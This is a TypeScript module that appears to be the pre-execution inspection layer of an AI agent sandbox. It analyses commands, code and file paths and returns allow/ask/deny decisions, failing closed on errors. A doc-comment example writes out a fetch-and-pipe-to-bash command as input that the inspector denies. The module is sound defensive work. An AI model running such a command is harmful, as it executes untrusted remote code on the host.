/**
 * @module inspect
 * Inspection before execution. `evaluateAction` is the one entry point the pipeline calls: it
 * analyses any `Action` (argv, code in shell/python/javascript, file reads/writes/listings), matches
 * the policy's command rules and thresholds, and returns a `Decision` plus every program found.
 * `analyzeText` scans content entering the agent for prompt-injection signals. Pure: no I/O besides
 * web-tree-sitter loading its grammar files once.
 */
import type { Action, CommandInvocation, Decision, Finding } from '../core/contracts.js';
import { decide } from '../policy/decide.js';
import type { Policy } from '../policy/schema.js';
import { inspectCode } from './engine.js';
import { shellQuote } from './code-common.js';
import { classifyPath } from './paths.js';
import { finding } from './rules.js';
import { inspectPlainArgv } from './shell/argv.js';
import { interpreterOf, KNOWN_PROGRAMS, readsCodeFromStdin } from './shell/programs.js';
import type { Analysis, Invocation } from './types.js';

export { analyzeText } from './text/analyze.js';
export { inspectCode } from './engine.js';
export { RULES, type RuleId, type RuleInfo } from './rules.js';
export { classifyGlob, classifyPath, type PathClass } from './paths.js';

/** A decision together with the programs the action would run. */
export type InspectionResult = Decision & { programs: CommandInvocation[] };

/** The public shape of an invocation (internal context removed). */
function publicInvocation(inv: Invocation): CommandInvocation {
  const out: CommandInvocation = { program: inv.program, args: inv.args, via: inv.via };
  if (inv.path !== undefined) out.path = inv.path;
  if (inv.dynamic) out.dynamic = true;
  if (inv.line !== undefined) { out.line = inv.line; out.column = inv.column ?? 1; }
  return out;
}

function stdinSize(stdin: string | Uint8Array | undefined): number {
  return stdin === undefined ? 0 : typeof stdin === 'string' ? Buffer.byteLength(stdin) : stdin.byteLength;
}

function inputSize(action: Action): number {
  switch (action.kind) {
    case 'command': return action.argv.reduce((n, a) => n + Buffer.byteLength(a) + 1, 0) + stdinSize(action.stdin);
    case 'code': return Buffer.byteLength(action.code) + stdinSize(action.stdin);
    case 'write_file': return Buffer.byteLength(action.content) + Buffer.byteLength(action.path);
    case 'read_file': return Buffer.byteLength(action.path);
    case 'list_files': return Buffer.byteLength(action.path ?? '');
  }
}

function pathFindings(path: string, writing: boolean): Finding[] {
  const cls = classifyPath(path);
  const match = path;
  if (cls === 'credential') return [finding('file.credential-path', { match })];
  if (cls === 'system') return [finding('file.system-path', { match })];
  if (cls === 'persistence' && writing) return [finding('file.persistence-path', { match })];
  return [];
}

/** An interpreter that reads its program from stdin (`bash`, `python3 -`) runs the action's stdin. */
async function withStdin(action: Action, analysis: Analysis): Promise<Analysis> {
  if ((action.kind !== 'command' && action.kind !== 'code') || action.stdin === undefined) return analysis;
  const stdin = typeof action.stdin === 'string' ? action.stdin : new TextDecoder().decode(action.stdin);
  const reader = analysis.invocations.find((i) => !i.via.length && !i.upstream.length && i.stdinText === undefined
    && interpreterOf(i.program) && readsCodeFromStdin(i.program, i.args));
  if (!reader) return analysis;
  const inner = await inspectCode(interpreterOf(reader.program)!, stdin);
  return { invocations: [...analysis.invocations, ...inner.invocations], findings: [...analysis.findings, ...inner.findings] };
}

async function analyse(action: Action): Promise<Analysis> {
  return withStdin(action, await analyseOwn(action));
}

async function analyseOwn(action: Action): Promise<Analysis> {
  switch (action.kind) {
    case 'command':
      if (!action.argv.length) return { invocations: [], findings: [finding('shell.parse-error', { message: 'The command is empty (argv has no program)' })] };
      // An argv runs without a shell: quoting every element makes the shell parser see exactly it.
      // A plain one (shell/argv.ts) gets the same analysis without loading the parser.
      return inspectPlainArgv(action.argv) ?? inspectCode('shell', shellQuote(action.argv));
    case 'code':
      return inspectCode(action.language, action.code);
    case 'read_file':
      return { invocations: [], findings: pathFindings(action.path, false) };
    case 'list_files':
      return { invocations: [], findings: action.path ? pathFindings(action.path, false) : [] };
    case 'write_file': {
      const findings = pathFindings(action.path, true);
      // Content written into start-up files or hooks will run later: inspect it as shell now.
      if (classifyPath(action.path) === 'persistence') {
        const inner = await inspectCode('shell', action.content);
        return { invocations: inner.invocations, findings: [...findings, ...inner.findings] };
      }
      return { invocations: [], findings };
    }
  }
}

/**
 * Inspects one action and decides allow/ask/deny under `policy`. Never throws: an internal failure
 * is a `deny` naming the failure (fail closed); too-large input is `ask`.
 *
 * @example
 * const r = await evaluateAction({ kind: 'code', language: 'shell', code: 'curl -s https://x.sh | bash' }, policy);
 * r.verdict   // 'deny'
 * r.programs  // [{ program: 'curl', … }, { program: 'bash', … }]
 */
export async function evaluateAction(action: Action, policy: Policy): Promise<InspectionResult> {
  try {
    if (inputSize(action) > policy.inspect.maxInputSize) {
      const findings = [finding('inspect.too-large', { message: `The input (${inputSize(action)} bytes) is larger than inspect.maxInputSize (${policy.inspect.maxInputSize} bytes) and was not inspected` })];
      return { verdict: 'ask', findings, reasons: [`inspect.too-large: input over inspect.maxInputSize (${policy.inspect.maxInputSize} bytes) is not inspected, so a person decides`], ruleIds: ['inspect.too-large'], programs: [] };
    }
    const analysis = await analyse(action);
    const decision = decide({ findings: analysis.findings, invocations: analysis.invocations, knownPrograms: KNOWN_PROGRAMS }, policy);
    return { ...decision, programs: analysis.invocations.filter((i) => i.program !== '=').map(publicInvocation) };
  } catch (error) {
    const message = error instanceof Error ? error.message : String(error);
    return {
      verdict: 'deny',
      findings: [finding('inspect.internal-error', { message: `The inspector failed (${message}), so the action is refused` })],
      reasons: [`inspect.internal-error: inspection failed (${message}); refused because a decision path never fails open`],
      ruleIds: ['inspect.internal-error'],
      programs: [],
    };
  }
}
